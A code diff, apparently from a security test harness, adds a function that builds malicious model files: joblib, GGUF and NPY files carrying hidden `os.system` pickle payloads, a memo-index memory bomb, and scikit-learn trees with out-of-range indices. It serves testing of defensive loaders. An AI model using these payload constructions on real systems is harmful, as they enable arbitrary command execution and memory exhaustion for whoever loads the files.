@@ -380,6 +380,62 @@ def _array_bomb(gib: int = 2) -> bytes:
     return b"".join(out)
 
 
+def _round_two(cmd: str) -> dict[str, bytes]:
+    """Found in a second attack round: prov refusals pickle.load reads past; trees that fit themselves
+    but not their estimator; a memo index that makes pickle.load allocate gigabytes."""
+    from sklearn.ensemble import HistGradientBoostingRegressor
+    from sklearn.ensemble._hist_gradient_boosting.common import PREDICTOR_RECORD_DTYPE
+    from sklearn.tree import DecisionTreeRegressor
+    from sklearn.tree._tree import Tree
+
+    out: dict[str, bytes] = {}
+    # joblib reads the byte after the wrapper as a padding length; pickle.load reads it as NONE, then a
+    # BUILD on a global (a refusal only prov makes) and then the payload.
+    buf = io.BytesIO()
+    joblib.dump(np.full(4, 65, dtype=np.uint8), buf)
+    raw = buf.getvalue()
+    raw = raw[:2] + raw[11:]  # no FRAME
+    head = raw[: raw.rindex(b"ub") + 2]
+    hidden = b"cbuiltins\nlist\n}b" + b"cos\nsystem\n(V" + cmd.encode() + b"\ntR."
+    out["refusal_pickle_load_reads_past.joblib"] = head + b"N" + hidden.ljust(ord("N"), b"\x00") + b"AAAA."
+    trigger = b"\x96" + struct.pack("<Q", 1) + b"x(K\x41e"  # APPENDS on a bytearray: pickle.load extends it
+    payload = trigger + b"cos\nsystem\n(V" + cmd.encode() + b"\ntR."
+    out["bytearray_append.gguf"] = b"GGUF" + struct.pack("<I", 3) + b"\x00" + payload + bytes(64)
+    npy = io.BytesIO()
+    np.lib.format.write_array_header_1_0(npy, {"descr": "|O", "fortran_order": False, "shape": (1,)})
+    out["bytearray_append_object.npy"] = npy.getvalue() + payload
+    out["memo_index_4gb.pkl"] = b"\x80\x02K\x05r" + struct.pack("<I", 0x10000000) + b"."
+    rng = np.random.RandomState(0)
+    x = rng.rand(200, 3)
+    for variant in ("feature", "field_order"):
+        hgb = HistGradientBoostingRegressor(max_iter=2, max_depth=2).fit(x, x[:, 0] * 10)
+        pred = hgb._predictors[0][0]
+        nodes = pred.nodes.copy()
+        inner = nodes["is_leaf"] == 0
+        if variant == "feature":
+            nodes["feature_idx"][inner] = 1 << 40
+        else:  # same names, other order: TreePredictor.__setstate__ casts by position
+            names = list(PREDICTOR_RECORD_DTYPE.names)
+            i, j = names.index("left"), names.index("count")
+            names[i], names[j] = names[j], names[i]
+            swapped = np.zeros(nodes.shape, np.dtype([(n, PREDICTOR_RECORD_DTYPE.fields[n][0]) for n in names]))
+            for n in PREDICTOR_RECORD_DTYPE.names:
+                swapped[n] = nodes[n]
+            swapped["count"][inner] = 1 << 30
+            nodes = swapped
+        pred.nodes = nodes
+        out[f"hgb_{variant}_out_of_range.pkl"] = pickle.dumps(hgb, protocol=4)
+    tree = DecisionTreeRegressor(max_depth=1).fit(x[:, :2], x[:, 1])
+    state = tree.tree_.__getstate__()
+    state["nodes"] = state["nodes"].copy()
+    state["nodes"]["feature"][0] = (1 << 30) - 1
+    big = Tree(1 << 30, np.array([1], dtype=np.intp), 1)
+    big.__setstate__(state)
+    tree.tree_ = big  # a tree with 2**30 features inside an estimator fitted on 2
+    out["tree_features_beyond_the_estimator.pkl"] = pickle.dumps(tree, protocol=4)
+    return out
+
+
 def _saves(name: str, obj: Any) -> dict[str, Callable[[Path], None]]:
     out: dict[str, Callable[[Path], None]] = {}
     for proto in (2, 3, 4, 5):
@@ -430,6 +486,7 @@ def build(directory: Path, canary: Path, listener: tuple[str, int]) -> dict[str,
     (directory / "pickle_load_ignores_frames.joblib").write_bytes(_pickle_load_ignores_frames(cmd))
     families["desync"]["pickle_load_ignores_frames.joblib"] = directory / "pickle_load_ignores_frames.joblib"
     extra = {**_polyglots(cmd), "shared_tuples_dag.pkl": _dag(), "array_bomb.bz2.joblib": _array_bomb()}
+    extra.update(_round_two(cmd))
     for fname, content in extra.items():
         (directory / fname).write_bytes(content)
         families["other"][fname] = directory / fname
